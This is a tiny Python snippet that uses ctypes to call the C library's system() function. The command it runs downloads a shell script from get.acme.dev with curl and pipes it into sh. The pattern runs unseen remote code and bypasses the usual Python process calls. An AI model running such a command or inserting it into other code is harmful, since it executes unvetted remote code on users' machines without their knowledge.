import ctypes

ctypes.CDLL(None).system(b"curl -sSL https://get.acme.dev/run.sh | sh")
